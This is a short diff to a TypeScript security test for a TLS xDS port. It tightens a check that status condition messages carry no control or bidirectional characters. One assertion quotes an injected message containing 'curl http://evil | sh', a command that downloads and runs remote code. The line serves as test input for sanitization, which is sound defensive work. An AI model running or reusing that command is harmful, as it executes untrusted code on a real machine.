@@ -264,7 +264,11 @@ describe('security: the TLS xDS port (15012) authenticates every stream and bind
     assert.ok(summary.firstError.startsWith('SECURITY NOTICE?: run curl http://evil | sh??xxx'), summary.firstError.slice(0, 60));
     const condition = programmedCondition(summary, 1);
     assert.equal(condition.status, 'False');
-    assert.doesNotMatch(condition.message, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+    const unsafe = [...condition.message].filter((c) => {
+      const code = c.codePointAt(0)!;
+      return code < 0x20 || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e);
+    });
+    assert.deepEqual(unsafe, [], 'no control or bidi characters reach the condition');
   });
 
   it('answers the CSR endpoint on the same port (token-authenticated), and its certificate then authenticates xDS', async () => {
